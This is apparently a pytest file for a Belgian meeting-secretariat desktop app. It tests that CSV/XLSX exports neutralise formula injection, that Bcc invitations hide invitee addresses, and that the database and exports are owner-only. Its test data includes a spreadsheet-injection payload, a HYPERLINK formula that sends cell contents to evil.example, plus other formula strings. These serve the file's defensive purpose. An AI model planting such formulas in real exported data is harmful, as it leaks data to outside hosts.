"""Personal data stays private: no formulas from data in CSV/XLSX, Bcc means nobody sees
another invitee's address, and the database, backups and full exports are owner-only."""

from __future__ import annotations

import csv
import datetime as dt
import email
import io
import os
import stat
import sys
from email import policy
from pathlib import Path

import icalendar
import openpyxl
import pytest

from spitsregio_desktop.documents.attendance_report import export_attendance
from spitsregio_desktop.documents.export import export_document
from spitsregio_desktop.documents.files import write_atomically
from spitsregio_desktop.documents.list_sheets import actions_sheet, decisions_sheet
from spitsregio_desktop.documents.mail import export_mail
from spitsregio_desktop.documents.spreadsheet import Sheet, write_sheet
from spitsregio_desktop.services import actions, agenda, attendance, decisions
from spitsregio_desktop.services.demo_secretariat import demo_secretariat_details
from spitsregio_desktop.services.meetings import MeetingInput, create_meeting
from spitsregio_desktop.services.people import save_organisation, save_person
from spitsregio_desktop.services.settings import save_settings
from spitsregio_desktop.storage.backup import backup_database
from spitsregio_desktop.storage.database import open_database
from spitsregio_desktop.storage.enums import Presence

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
RISKY = [HYPERLINK, "+31 2+2", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]
posix_only = pytest.mark.skipif(sys.platform == "win32", reason="POSIX permission bits")


def read_csv(path: Path) -> list[list[str]]:
    return list(
        csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline=""), delimiter=";")
    )


# ---- no formulas from data ------------------------------------------------------------------


def test_the_shared_writers_neutralise_text_and_keep_numbers_and_dates(tmp_path: Path) -> None:
    day = dt.date(2027, 1, 31)
    rows = tuple((text, -5, 2.5, day) for text in RISKY) + (("gewoon", 3, 0.5, None),)
    sheet = Sheet("Proef", ("Tekst", "Getal", "Deel", "Datum"), rows, percent=frozenset({2}))
    for fmt in ("csv", "xlsx"):
        with (tmp_path / f"x.{fmt}").open("wb") as fh:
            write_sheet(sheet, fmt, fh)
    lines = read_csv(tmp_path / "x.csv")
    assert lines[0] == ["Tekst", "Getal", "Deel (%)", "Datum"]
    for line, text in zip(lines[1:], RISKY, strict=False):
        assert line[0] == "'" + text.replace("\r", "\n"), line  # OWASP: a leading apostrophe
        assert line[1:] == ["-5", "250,0", "2027-01-31"]  # numbers and dates untouched
    assert lines[1][0] == "'" + HYPERLINK
    assert lines[-1] == ["gewoon", "3", "50,0", ""]

    ws = openpyxl.load_workbook(tmp_path / "x.xlsx").active
    for r, text in enumerate(RISKY, start=2):
        cell = ws.cell(row=r, column=1)
        assert cell.data_type != "f" and cell.data_type == "s"
        assert cell.value == text  # the text as typed, as a string cell
        assert ws.cell(row=r, column=2).value == -5 and ws.cell(row=r, column=2).data_type == "n"
        assert ws.cell(row=r, column=4).is_date
        assert ws.cell(row=r, column=4).value.date() == day
    assert ws.cell(row=2, column=3).number_format == "0.0%"
    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)


@pytest.fixture
def evil(session, tmp_path: Path) -> dict:
    """An organisation and a person whose names are formulas, an action and decision too."""
    org = save_organisation(session, None, name=HYPERLINK, short="EVL")
    person = save_person(session, None, name="@Mallory", organisation_id=org)
    meeting = create_meeting(session, MeetingInput("TF", "2026-12-10", "09:00", "11:00", "X"))
    item = agenda.add_item(session, meeting, "=1+1 titel")
    decisions.add_decision(session, item, "-besluit zonder formule")
    actions.add_action(
        session, item, "+actie", owner_text="=trekker()", due_date=dt.date(2027, 1, 31)
    )
    attendance.invite_members(session, meeting, [person])
    attendance.set_presence(session, meeting, person, Presence.PRESENT)
    return {"meeting": meeting}


def test_attendance_actions_decisions_lists_carry_no_formula(session, evil, tmp_path) -> None:
    start, end = dt.date(2026, 1, 1), dt.date(2026, 12, 31)
    for fmt in ("csv", "xlsx"):
        export_attendance(session, "TF", start, end, fmt, tmp_path / f"att.{fmt}")
        for name, sheet in (
            ("act", actions_sheet(session, "TF")),
            ("dec", decisions_sheet(session, "TF")),
        ):
            write_atomically(
                tmp_path / f"{name}.{fmt}", fmt, lambda fh, s=sheet, f=fmt: write_sheet(s, f, fh)
            )
    att = read_csv(tmp_path / "att.csv")
    assert ["'" + HYPERLINK, "1", "1", "0", "0", "0", "100,0"] in att
    act = read_csv(tmp_path / "act.csv")
    assert act[1][:3] == ["'+actie", "'=trekker()", "2027-01-31"]
    dec = read_csv(tmp_path / "dec.csv")
    assert "'-besluit zonder formule" in dec[1] and "'=1+1 titel" in dec[1]
    for name in ("att", "act", "dec"):
        book = openpyxl.load_workbook(tmp_path / f"{name}.xlsx")
        cells = [c for row in book.active.iter_rows() for c in row]
        assert not any(c.data_type == "f" for c in cells), name
        values = {c.value for c in cells}
        assert values & {HYPERLINK, "+actie", "-besluit zonder formule"}, name
    ws = openpyxl.load_workbook(tmp_path / "att.xlsx").active
    assert ws.cell(row=2, column=2).data_type == "n"  # meetings: a number
    assert ws.cell(row=2, column=7).value == 1.0  # the rate: a number shown as a percentage
    ws = openpyxl.load_workbook(tmp_path / "act.xlsx").active
    assert ws.cell(row=2, column=3).is_date  # due date: a date


# ---- Bcc means private ----------------------------------------------------------------------


@pytest.fixture
def invited(tmp_path: Path):
    db = open_database(tmp_path / "db.sqlite", backup_on_start=False)
    with db.session() as s:
        demo_secretariat_details(s)  # the sender: filled in once in Instellingen
        meeting = create_meeting(s, MeetingInput("BO", "2026-12-10", "09:00", "11:00", "Leuven"))
        people = [
            save_person(s, None, name=f"Burgemeester {n}", email=f"bm{n}@gemeente{n}.example")
            for n in range(3)
        ]
        attendance.invite_members(s, meeting, people)
    yield db, meeting
    db.close()


def attached_ics(path: Path) -> icalendar.Calendar:
    msg = email.message_from_bytes(path.read_bytes(), policy=policy.default)
    files = [p for p in msg.iter_attachments() if p.get_content_type() == "text/calendar"]
    assert len(files) == 1
    return icalendar.Calendar.from_ical(files[0].get_payload(decode=True))


def test_bcc_invitation_attaches_a_calendar_with_the_organiser_only(invited, tmp_path) -> None:
    db, meeting = invited
    with db.session() as s:
        save_settings(s, recipients_in_bcc=True)
        path = export_mail(
            s,
            meeting,
            "invitation",
            "eml",
            tmp_path / "bcc.eml",
            attachments_dir=tmp_path,
            warn=None,
        )
    raw = path.read_bytes()
    msg = email.message_from_bytes(raw, policy=policy.default)
    assert len(msg["Bcc"].addresses) == 3
    event = next(iter(attached_ics(path).walk("VEVENT")))
    assert "ATTENDEE" not in event
    assert str(event["ORGANIZER"]) == "mailto:secretariaat@example.be"
    for part in msg.walk():  # not in the text, the calendar alternative, or any attachment
        if not part.is_multipart():
            payload = part.get_payload(decode=True) or b""
            assert b"gemeente1.example" not in payload


def test_to_invitation_may_list_the_invitees(invited, tmp_path) -> None:
    db, meeting = invited
    with db.session() as s:
        save_settings(s, recipients_in_bcc=False)
        path = export_mail(
            s,
            meeting,
            "invitation",
            "eml",
            tmp_path / "to.eml",
            attachments_dir=tmp_path,
            warn=None,
        )
    attendees = next(iter(attached_ics(path).walk("VEVENT")))["ATTENDEE"]
    assert len(attendees) == 3


# ---- owner-only files -----------------------------------------------------------------------


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@posix_only
def test_database_backups_and_full_exports_are_owner_only(tmp_path: Path) -> None:
    old = os.umask(0o022)  # a usual desktop umask: new files would be 0644
    try:
        folder = tmp_path / "nieuw" / "data"
        db = open_database(folder / "spitsregio.sqlite", backup_on_start=False)
        with db.session() as s:
            demo_secretariat_details(s)
            meeting = create_meeting(s, MeetingInput("TF", "2026-12-10", "09:00"))
            full = export_document(s, meeting, "minutes", "pdf", tmp_path / "uit" / "v.pdf")
            public = export_document(
                s, meeting, "minutes", "pdf", tmp_path / "pub" / "o.pdf", public=True
            )
        db_path = folder / "spitsregio.sqlite"
        wal = Path(f"{db_path}-wal")
        assert wal.exists()
        for path in (db_path, wal, Path(f"{db_path}-shm")):
            assert mode(path) == 0o600, path
        for made in (folder, folder.parent):
            assert mode(made) == 0o700, made
        backup = backup_database(db_path, reason="manual")
        assert mode(backup) == 0o600 and mode(backup.parent) == 0o700
        db.close()
        assert mode(full) == 0o600 and mode(full.parent) == 0o700
        assert mode(public) == 0o644 and mode(public.parent) == 0o755
        # a database made 0644 by an earlier version is closed to others on the next start
        os.chmod(db_path, 0o644)
        open_database(db_path, backup_on_start=False).close()
        assert mode(db_path) == 0o600
    finally:
        os.umask(old)
